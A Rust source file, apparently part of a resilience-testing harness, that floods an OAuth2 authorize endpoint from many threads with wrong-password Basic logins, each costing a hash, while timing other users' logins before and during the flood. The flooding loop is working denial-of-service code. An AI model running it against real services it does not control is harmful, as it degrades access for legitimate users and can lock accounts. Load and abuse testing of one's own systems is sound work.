//! Logins with wrong passwords, each of which costs a hash, from one network or several, as fast as they are answered.

use std::collections::BTreeMap;
use std::sync::Mutex;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::{Duration, Instant};

use serde_json::Value;

use super::source::{raise_file_limit, status_of};
use super::{OTHERS, Plan, percentile};
use crate::load::encode::{base64, form};
use crate::load::installation::Installation;
use crate::outcome::Outcome;

/// Logins of others before the attack.
const BEFORE: usize = 100;

/// Runs the attack.
pub fn run(plan: &Plan, ready: &Value) -> Outcome {
    raise_file_limit();
    let installation = Installation::read(ready)?;
    let address = installation.site.address.as_str();
    let alone: Vec<_> = (0..BEFORE)
        .map(|number| timed(address, &login(&installation, &format!("before{number}"))))
        .collect();
    show("others, alone", &alone);
    let is_over = AtomicBool::new(false);
    let sent = AtomicU64::new(0);
    let statuses = Mutex::new(BTreeMap::<String, u64>::new());
    let mut during = Vec::new();
    std::thread::scope(|scope| {
        for number in 0..plan.connections {
            let (is_over, sent, statuses) = (&is_over, &sent, &statuses);
            let request = login(&installation, &format!("attacker{number}"));
            scope.spawn(move || {
                while !is_over.load(Ordering::Relaxed) {
                    let status = word(&status_of(plan.address(number), address, &request));
                    sent.fetch_add(1, Ordering::Relaxed);
                    if let Ok(mut statuses) = statuses.lock() {
                        *statuses.entry(status).or_default() += 1;
                    }
                }
            });
        }
        std::thread::sleep(Duration::from_secs(1));
        let since = Instant::now();
        while since.elapsed() < plan.length {
            let request = login(&installation, &format!("during{}", during.len()));
            during.push(timed(address, &request));
        }
        is_over.store(true, Ordering::Relaxed);
    });
    show("others, during the attack", &during);
    println!(
        "attacker: {} connections from {} network(s), {} requests, by status {:?}",
        plan.connections,
        plan.networks,
        sent.load(Ordering::Relaxed),
        statuses.into_inner().unwrap_or_default(),
    );
    Ok(())
}

fn login(installation: &Installation, user: &str) -> String {
    let credentials = base64(format!("{user}@example.com:not-the-password").as_bytes());
    let body = form(&[
        ("response_type", "code_credentials"),
        ("client_id", &installation.client_id),
        ("redirect_uri", &installation.redirect_uri),
    ]);
    let site = &installation.site;
    format!(
        "POST {}/services/oauth2/authorize HTTP/1.1\r\nHost: {}\r\nConnection: close\r\nAuth-Request-Type: Named-User\r\n\
         Authorization: Basic {credentials}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{body}",
        site.path,
        site.address,
        body.len()
    )
}

/// A request of others: its status in a word, and the time that it took.
fn timed(address: &str, request: &str) -> (String, Duration) {
    let start = Instant::now();
    let status = word(&status_of(OTHERS, address, request));
    (status, start.elapsed())
}

fn word(status: &Outcome<u16>) -> String {
    match status {
        Ok(status) => status.to_string(),
        Err(_) => "closed".to_owned(),
    }
}

fn show(what: &str, outcomes: &[(String, Duration)]) {
    let mut taken: Vec<Duration> = outcomes.iter().map(|(_, taken)| *taken).collect();
    taken.sort_unstable();
    let mut statuses = BTreeMap::<&str, u64>::new();
    for (status, _) in outcomes {
        *statuses.entry(status).or_default() += 1;
    }
    println!(
        "{what}: {} logins, by status {statuses:?}, p50 {:.1} ms, p99 {:.1} ms",
        taken.len(),
        percentile(&taken, 0.5),
        percentile(&taken, 0.99)
    );
}
